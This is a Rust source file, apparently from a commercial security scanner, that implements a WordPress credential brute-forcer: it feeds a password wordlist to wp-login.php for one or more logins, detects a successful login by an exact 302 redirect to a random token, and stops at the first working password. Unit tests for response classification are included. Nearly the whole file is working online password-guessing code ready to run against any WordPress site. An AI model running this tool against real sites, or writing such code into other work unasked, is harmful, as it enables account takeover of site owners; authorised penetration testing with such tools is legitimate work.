// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - WordPress Credential Tester
 * Tries a password wordlist against wp-login.php for one login and stops at
 * the first password that logs in
 *
 * @copyright 2026 Bountyy Oy
 * @license Proprietary
 */
use parking_lot::Mutex;
use rand::Rng;
use serde::Serialize;
use std::path::Path;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;
use tokio::fs::File;
use tokio::io::{AsyncBufReadExt, BufReader, Lines};
use tracing::{debug, info};

use crate::context::ScanContext;
use crate::errors::{ScannerError, ScannerResult};
use crate::http_client::{HttpResponse, ProbeRequest};
use crate::progress::ProgressEvent;
use crate::target::WpTarget;

const REDIRECT_TOKEN_LEN: usize = 8;

#[derive(Debug, Clone, Default)]
pub struct BruteForceOptions {
    /// Report every classified attempt, passwords included, on the progress channel
    pub verbose: bool,
    pub show_progression: bool,
    /// Fixed redirect_to instead of a random one per attempt
    pub redirect_url: Option<String>,
}

/// How a single login attempt ended
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum LoginOutcome {
    Success,
    Invalid,
    Timeout,
    NoResponse,
    ServerError(u16),
    Unknown { status: u16, body: String },
}

impl LoginOutcome {
    pub fn is_error(&self) -> bool {
        !matches!(self, LoginOutcome::Success | LoginOutcome::Invalid)
    }
}

/// Classify a wp-login.php response. A successful login answers 302 to
/// exactly the redirect_to we sent, anything else is not a success.
pub fn classify_login_response(response: &HttpResponse, expected_redirect: &str) -> LoginOutcome {
    if response.status_code == 302 && response.header("location") == Some(expected_redirect) {
        return LoginOutcome::Success;
    }
    if response.body.to_lowercase().contains("login_error") {
        return LoginOutcome::Invalid;
    }
    if response.timed_out {
        return LoginOutcome::Timeout;
    }
    if response.status_code == 0 {
        return LoginOutcome::NoResponse;
    }
    if (500..600).contains(&response.status_code) {
        return LoginOutcome::ServerError(response.status_code);
    }
    LoginOutcome::Unknown {
        status: response.status_code,
        body: response.body.clone(),
    }
}

#[derive(Debug, Clone, Default, Serialize)]
pub struct BruteForceReport {
    pub login: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub password: Option<String>,
    /// Attempts that got an answer (or a network failure)
    pub attempts: usize,
    pub invalid: usize,
    pub errors: usize,
}

impl BruteForceReport {
    pub fn found(&self) -> bool {
        self.password.is_some()
    }
}

enum PasswordSource {
    File(Lines<BufReader<File>>),
    List(std::vec::IntoIter<String>),
}

impl PasswordSource {
    async fn next(&mut self, path: Option<&Path>) -> ScannerResult<Option<String>> {
        match self {
            PasswordSource::File(lines) => {
                let line = lines.next_line().await.map_err(|e| {
                    ScannerError::io(path.unwrap_or_else(|| Path::new("wordlist")), e)
                })?;
                Ok(line.map(|l| l.trim_end_matches('\r').to_string()))
            }
            PasswordSource::List(passwords) => Ok(passwords.next()),
        }
    }
}

/// State shared between the submit loop and the response handlers of one run
struct AttemptState {
    found: AtomicBool,
    password: Mutex<Option<String>>,
    invalid: AtomicUsize,
    errors: AtomicUsize,
}

pub struct CredentialBruteForcer {
    ctx: ScanContext,
    target: WpTarget,
}

impl CredentialBruteForcer {
    pub fn new(ctx: ScanContext, target: WpTarget) -> Self {
        Self { ctx, target }
    }

    /// Stream the wordlist file against `login`
    pub async fn brute_force(
        &self,
        login: &str,
        wordlist: &Path,
        options: &BruteForceOptions,
    ) -> ScannerResult<BruteForceReport> {
        let total = if options.show_progression {
            count_lines(wordlist).await?
        } else {
            0
        };

        let file = File::open(wordlist)
            .await
            .map_err(|e| ScannerError::io(wordlist, e))?;
        let source = PasswordSource::File(BufReader::new(file).lines());
        self.run(login, source, Some(wordlist), total, options).await
    }

    pub async fn brute_force_passwords(
        &self,
        login: &str,
        passwords: Vec<String>,
        options: &BruteForceOptions,
    ) -> ScannerResult<BruteForceReport> {
        let total = passwords.len() as u64;
        self.run(login, PasswordSource::List(passwords.into_iter()), None, total, options)
            .await
    }

    /// One run per login, in order. Stops at the first fatal error.
    pub async fn brute_force_users(
        &self,
        logins: &[String],
        wordlist: &Path,
        options: &BruteForceOptions,
    ) -> ScannerResult<Vec<BruteForceReport>> {
        let mut reports = Vec::with_capacity(logins.len());
        for login in logins {
            reports.push(self.brute_force(login, wordlist, options).await?);
        }
        Ok(reports)
    }

    async fn run(
        &self,
        login: &str,
        mut source: PasswordSource,
        path: Option<&Path>,
        total: u64,
        options: &BruteForceOptions,
    ) -> ScannerResult<BruteForceReport> {
        let login_url = self.target.login_url()?.to_string();
        let state = Arc::new(AttemptState {
            found: AtomicBool::new(false),
            password: Mutex::new(None),
            invalid: AtomicUsize::new(0),
            errors: AtomicUsize::new(0),
        });

        info!("[BruteForce] Testing passwords for login {}", login);
        if options.show_progression {
            self.ctx.progress.emit(ProgressEvent::Started {
                label: format!("Brute forcing {}", login),
                total,
            });
        }

        let mut scheduler = self.ctx.scheduler();

        while !state.found.load(Ordering::SeqCst) {
            let Some(password) = source.next(path).await? else {
                break;
            };

            let redirect = options
                .redirect_url
                .clone()
                .unwrap_or_else(|| random_redirect(&self.target));

            let request = ProbeRequest::post_form(
                login_url.clone(),
                vec![
                    ("log".to_string(), login.to_string()),
                    ("pwd".to_string(), password.clone()),
                    ("redirect_to".to_string(), redirect.clone()),
                ],
            )
            .with_cache_ttl(Duration::ZERO);

            let state = Arc::clone(&state);
            let progress = Arc::clone(&self.ctx.progress);
            let login = login.to_string();
            let verbose = options.verbose;
            let show_progression = options.show_progression;

            scheduler.submit(request, move |response| {
                if state.found.load(Ordering::SeqCst) {
                    return;
                }
                if show_progression {
                    progress.emit(ProgressEvent::Advanced);
                }

                let outcome = classify_login_response(response, &redirect);
                match &outcome {
                    LoginOutcome::Success => {
                        if !state.found.swap(true, Ordering::SeqCst) {
                            *state.password.lock() = Some(password.clone());
                        }
                    }
                    LoginOutcome::Invalid => {
                        state.invalid.fetch_add(1, Ordering::Relaxed);
                    }
                    _ => {
                        state.errors.fetch_add(1, Ordering::Relaxed);
                    }
                }

                if outcome.is_error() {
                    debug!(
                        "[BruteForce] Attempt for {} failed with status {}",
                        login, response.status_code
                    );
                }

                if verbose {
                    progress.emit(ProgressEvent::Message(describe_outcome(
                        &outcome, &login, &password,
                    )));
                }
            });

            if scheduler.is_full() {
                scheduler.run_wave().await?;
            }
        }

        // Success can only be seen inside a wave, so nothing is left queued then
        scheduler.drain().await?;

        if options.show_progression {
            self.ctx.progress.emit(ProgressEvent::Finished);
        }

        let password = state.password.lock().clone();
        let report = BruteForceReport {
            login: login.to_string(),
            attempts: scheduler.requests_sent(),
            invalid: state.invalid.load(Ordering::Relaxed),
            errors: state.errors.load(Ordering::Relaxed),
            password,
        };

        if report.found() {
            info!(
                "[BruteForce] Valid password found for {} after {} attempts",
                login, report.attempts
            );
        } else {
            info!(
                "[BruteForce] No valid password for {} ({} attempts)",
                login, report.attempts
            );
        }
        Ok(report)
    }
}

/// Target URL plus 8 random uppercase letters and a trailing slash
pub fn random_redirect(target: &WpTarget) -> String {
    let mut rng = rand::rng();
    let token: String = (0..REDIRECT_TOKEN_LEN)
        .map(|_| char::from(rng.random_range(b'A'..=b'Z')))
        .collect();
    format!("{}{}/", target.as_str(), token)
}

fn describe_outcome(outcome: &LoginOutcome, login: &str, password: &str) -> String {
    match outcome {
        LoginOutcome::Success => format!("[SUCCESS] Login: {} Password: {}", login, password),
        LoginOutcome::Invalid => format!(
            "Incorrect login and/or password. Login: {} Password: {}",
            login, password
        ),
        LoginOutcome::Timeout => format!(
            "ERROR: Request timed out. Login: {} Password: {}",
            login, password
        ),
        LoginOutcome::NoResponse => format!(
            "ERROR: No response from remote server. WAF/IPS? Login: {} Password: {}",
            login, password
        ),
        LoginOutcome::ServerError(status) => format!(
            "ERROR: Server error ({}), try reducing the number of threads. Login: {} Password: {}",
            status, login, password
        ),
        LoginOutcome::Unknown { status, body } => format!(
            "ERROR: We received an unknown response for login: {} and password: {} (status {}): {}",
            login, password, status, body
        ),
    }
}

async fn count_lines(path: &Path) -> ScannerResult<u64> {
    let file = File::open(path).await.map_err(|e| ScannerError::io(path, e))?;
    let mut lines = BufReader::new(file).lines();
    let mut count = 0;
    while lines
        .next_line()
        .await
        .map_err(|e| ScannerError::io(path, e))?
        .is_some()
    {
        count += 1;
    }
    Ok(count)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashMap;

    const EXPECTED: &str = "http://example.com/ABCDEFGH/";

    fn response(status: u16, body: &str, location: Option<&str>) -> HttpResponse {
        let mut headers = HashMap::new();
        if let Some(location) = location {
            headers.insert("location".to_string(), location.to_string());
        }
        HttpResponse {
            status_code: status,
            body: body.to_string(),
            headers,
            timed_out: false,
            duration_ms: 5,
        }
    }

    #[test]
    fn test_success_needs_exact_location() {
        assert_eq!(
            classify_login_response(&response(302, "", Some(EXPECTED)), EXPECTED),
            LoginOutcome::Success
        );
        assert_ne!(
            classify_login_response(
                &response(302, "", Some("http://example.com/wp-admin/")),
                EXPECTED
            ),
            LoginOutcome::Success
        );
        assert_ne!(
            classify_login_response(&response(302, "", None), EXPECTED),
            LoginOutcome::Success
        );
    }

    #[test]
    fn test_classification_order() {
        assert_eq!(
            classify_login_response(&response(200, "<div id=\"LOGIN_ERROR\">", None), EXPECTED),
            LoginOutcome::Invalid
        );

        let mut timed_out = response(0, "", None);
        timed_out.timed_out = true;
        assert_eq!(classify_login_response(&timed_out, EXPECTED), LoginOutcome::Timeout);

        assert_eq!(
            classify_login_response(&response(0, "", None), EXPECTED),
            LoginOutcome::NoResponse
        );
        assert_eq!(
            classify_login_response(&response(503, "busy", None), EXPECTED),
            LoginOutcome::ServerError(503)
        );
        assert_eq!(
            classify_login_response(&response(200, "welcome", None), EXPECTED),
            LoginOutcome::Unknown {
                status: 200,
                body: "welcome".to_string()
            }
        );
    }

    #[test]
    fn test_random_redirect_shape() {
        let target = WpTarget::new("http://example.com/blog/").unwrap();
        let redirect = random_redirect(&target);
        let token = redirect
            .strip_prefix("http://example.com/blog/")
            .and_then(|rest| rest.strip_suffix('/'))
            .unwrap();
        assert_eq!(token.len(), REDIRECT_TOKEN_LEN);
        assert!(token.chars().all(|c| c.is_ascii_uppercase()));
    }

    #[test]
    fn test_verbose_lines() {
        let line = describe_outcome(&LoginOutcome::NoResponse, "admin", "x");
        assert!(line.contains("WAF/IPS?"));
        let line = describe_outcome(&LoginOutcome::ServerError(502), "admin", "x");
        assert!(line.contains("try reducing the number of threads"));
    }
}
